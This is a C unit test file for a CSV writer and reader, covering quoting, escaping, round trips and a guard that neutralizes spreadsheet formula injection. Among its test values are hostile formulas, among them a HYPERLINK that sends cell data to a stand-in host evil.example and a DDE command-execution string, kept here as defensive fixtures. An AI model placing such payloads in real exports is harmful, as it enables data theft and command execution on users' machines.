/*
 * check_csv.c - CSV fields and records, checked byte for byte.  The expected
 * output is what Python's csv.writer(f, lineterminator="\r\n") writes for the
 * same values (it quotes on , " CR LF, doubles quotes, and writes a lone
 * empty field as ""), except that we also quote leading and trailing blanks,
 * and that text a spreadsheet would run as a formula is written quoted after
 * a single quote (OWASP, "CSV Injection") unless CSV_RAW or CSV_NUMBER.
 */
#include "config.h"

#include "check-main.h"
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "csv.h"
#include "csv-read.h"

struct field_case {
	const char *in;
	const char *want;
	int flags;
};

static const struct field_case field_cases[] = {
	{ NULL, "", 0 },
	{ "", "", 0 },
	{ "plain", "plain", 0 },
	{ "Data Engineer", "Data Engineer", 0 },
	{ "130000", "130000", 0 },
	{ "a,b", "\"a,b\"", 0 },
	{ "Remote, US", "\"Remote, US\"", 0 },
	{ "say \"hi\"", "\"say \"\"hi\"\"\"", 0 },
	{ "\"", "\"\"\"\"", 0 },
	{ "\"\"", "\"\"\"\"\"\"", 0 },
	{ "line1\nline2", "\"line1\nline2\"", 0 },
	{ "line1\r\nline2", "\"line1\r\nline2\"", 0 },
	{ "cr\r", "\"cr\r\"", 0 },
	{ " lead", "\" lead\"", 0 },
	{ "trail ", "\"trail \"", 0 },
	{ "\ttab", "\"'\ttab\"", 0 },
	{ "\ttab", "\"\ttab\"", CSV_RAW },
	{ "in side", "in side", 0 },
	{ "it's", "it's", 0 },
	{ "Zürich", "Zürich", 0 },
	{ "€100K", "€100K", 0 },
	{ "Zürich, CH", "\"Zürich, CH\"", 0 },
	{ "5\" screen, \"€\"", "\"5\"\" screen, \"\"€\"\"\"", 0 },
	{ "=1+1", "\"'=1+1\"", 0 },
	{ "=1+1", "=1+1", CSV_RAW },
	/* hostile titles as a board could carry them */
	{ "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Apply\")",
	  "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Apply\"\")\"", 0 },
	{ "=HYPERLINK(\"http://evil.example/\")", "\"=HYPERLINK(\"\"http://evil.example/\"\")\"",
	  CSV_RAW },
	{ "+1 555 0100 (call us)", "\"'+1 555 0100 (call us)\"", 0 },
	{ "@SUM(A1:A9)", "\"'@SUM(A1:A9)\"", 0 },
	{ "@SUM(A1)", "@SUM(A1)", CSV_RAW },
	{ "-Data Engineer", "\"'-Data Engineer\"", 0 },
	{ "-Data Engineer, Remote", "\"'-Data Engineer, Remote\"", 0 },
	{ "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"", 0 },
	{ "\r=1+1", "\"'\r=1+1\"", 0 },
	{ "\n=1+1", "\"'\n=1+1\"", 0 },
	/* only the first character counts; an inner sign is text */
	{ "Data Engineer - Remote", "Data Engineer - Remote", 0 },
	{ "C++ Developer", "C++ Developer", 0 },
	{ "'=1+1", "'=1+1", 0 },
	{ " =1+1", "\" =1+1\"", 0 },
	/* numbers jobstats wrote stay numbers */
	{ "-5", "-5", CSV_NUMBER },
	{ "1e3", "1e3", CSV_NUMBER },
	{ "-120000.5", "-120000.5", CSV_NUMBER },
	{ "-5", "\"'-5\"", 0 },
};

START_TEST(test_field)
{
	const struct field_case *c = &field_cases[_i];
	struct buf b = BUF_INIT;

	csv_field(&b, c->in, c->flags);
	ck_assert_str_eq(buf_str(&b), c->want);
	buf_release(&b);
}
END_TEST

#define MAXF 4

struct row_case {
	const char *fields[MAXF];
	size_t n;
	const char *want;
	uint64_t numbers;
	int flags;
};

static const struct row_case row_cases[] = {
	{ { "a", "b", "c" }, 3, "a,b,c\r\n", 0, 0 },
	{ { "Data Engineer", "murmuration", "100000", "130000" }, 4,
	  "Data Engineer,murmuration,100000,130000\r\n", 0, 0 },
	{ { "a", NULL, "c" }, 3, "a,,c\r\n", 0, 0 },
	{ { NULL, NULL }, 2, ",\r\n", 0, 0 },
	{ { "", "" , "" }, 3, ",,\r\n", 0, 0 },
	{ { "x", "" }, 2, "x,\r\n", 0, 0 },
	{ { "one" }, 1, "one\r\n", 0, 0 },
	{ { "" }, 1, "\"\"\r\n", 0, 0 },
	{ { NULL }, 1, "\"\"\r\n", 0, 0 },
	{ { NULL }, 0, "\r\n", 0, 0 },
	{ { "Remote, US", "say \"hi\"", "a\nb" }, 3,
	  "\"Remote, US\",\"say \"\"hi\"\"\",\"a\nb\"\r\n", 0, 0 },
	{ { "Zürich", "€", "CHF 120K" }, 3, "Zürich,€,CHF 120K\r\n", 0, 0 },
	/* a hostile title beside figures: the text is neutralized, the numbers not */
	{ { "=HYPERLINK(\"http://x.example\")", "-5", "1e3", "-5" }, 4,
	  "\"'=HYPERLINK(\"\"http://x.example\"\")\",-5,1e3,\"'-5\"\r\n",
	  CSV_COLUMN(1) | CSV_COLUMN(2), 0 },
	{ { "@SUM(A1)", "+1 555", "-5" }, 3, "@SUM(A1),+1 555,-5\r\n", 0, CSV_RAW },
	{ { "" }, 1, "\"\"\r\n", 0, CSV_RAW },
};

START_TEST(test_row)
{
	const struct row_case *c = &row_cases[_i];
	struct buf b = BUF_INIT;

	csv_row(&b, c->fields, c->n, c->numbers, c->flags);
	ck_assert_str_eq(buf_str(&b), c->want);
	buf_release(&b);
}
END_TEST

/* Rows append: a header and a record make a two-line file. */
START_TEST(test_rows_append)
{
	static const char *const head[] = { "title", "city" };
	static const char *const rec[] = { "ML Engineer", "Zürich" };
	struct buf b = BUF_INIT;

	csv_row(&b, head, 2, 0, 0);
	csv_row(&b, rec, 2, 0, 0);
	ck_assert_str_eq(buf_str(&b), "title,city\r\nML Engineer,Zürich\r\n");
	buf_release(&b);
}
END_TEST

/* The reader: each input's records, fields joined by '|', records by '/';
 * or the start of its error. */
static const struct {
	const char *in, *want, *error;
} read_cases[] = {
	{ "a,b\nc,d\n", "a|b/c|d", NULL },
	{ "a,b\r\nc,d", "a|b/c|d", NULL },			/* CRLF; no final line end */
	{ "\"x,y\",\"say \"\"hi\"\"\"\n", "x,y|say \"hi\"", NULL },
	{ "\"two\nlines\",z\nnext\n", "two\nlines|z/next", NULL },
	{ ",\n\n", "|/", NULL },				/* empty fields, a blank line */
	{ "Zürich,\"\"\n", "Zürich|", NULL },
	{ "a\n\"open,b\n", NULL, "line 2: quoted field not closed" },
	{ "\"a\"b,c\n", NULL, "line 1: text after a closing quote" },
	{ "a\rb\n", NULL, "line 1: carriage return" },
};

START_TEST(test_read)
{
	FILE *f = fmemopen((void *)read_cases[_i].in, strlen(read_cases[_i].in), "r");
	struct csv_reader r;
	struct buf got = BUF_INIT;
	char *err = NULL;
	size_t j;
	int rc;

	ck_assert_ptr_nonnull(f);
	csv_reader_init(&r, f);
	while ((rc = csv_read(&r, &err)) > 0) {
		if (got.len > 0)
			buf_appends(&got, "/");
		for (j = 0; j < r.nfields; j++)
			buf_printf(&got, "%s%s", j ? "|" : "", csv_field_at(&r, j));
	}
	if (read_cases[_i].error != NULL) {
		ck_assert_int_eq(rc, -1);
		ck_assert_msg(strncmp(err, read_cases[_i].error, strlen(read_cases[_i].error)) == 0,
			      "error '%s'", err);
	} else {
		ck_assert_int_eq(rc, 0);
		ck_assert_str_eq(got.len ? buf_str(&got) : "", read_cases[_i].want);
	}
	free(err);
	buf_release(&got);
	csv_reader_release(&r);
	fclose(f);
}
END_TEST

/* What csv_row writes, the reader reads back field for field. */
START_TEST(test_read_back)
{
	static const char *const rec[] = { "a,b", "say \"x\"", "", " lead", "two\r\nlines" };
	struct buf b = BUF_INIT;
	struct csv_reader r;
	char *err = NULL;
	size_t j;
	FILE *f;

	csv_row(&b, rec, 5, 0, CSV_RAW);	/* as written, no formula guard */
	f = fmemopen(b.data, b.len, "r");
	ck_assert_ptr_nonnull(f);
	csv_reader_init(&r, f);
	ck_assert_int_eq(csv_read(&r, &err), 1);
	ck_assert_uint_eq(r.nfields, 5);
	for (j = 0; j < 5; j++)
		ck_assert_str_eq(csv_field_at(&r, j), rec[j]);
	ck_assert_int_eq(csv_read(&r, &err), 0);
	csv_reader_release(&r);
	fclose(f);
	buf_release(&b);
}
END_TEST

#define NCASES(a) ((int)(sizeof(a) / sizeof((a)[0])))

Suite *test_suite(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("core");

	tcase_add_loop_test(tc, test_field, 0, NCASES(field_cases));
	tcase_add_loop_test(tc, test_row, 0, NCASES(row_cases));
	tcase_add_test(tc, test_rows_append);
	tcase_add_loop_test(tc, test_read, 0, NCASES(read_cases));
	tcase_add_test(tc, test_read_back);
	suite_add_tcase(s, tc);
	return s;
}
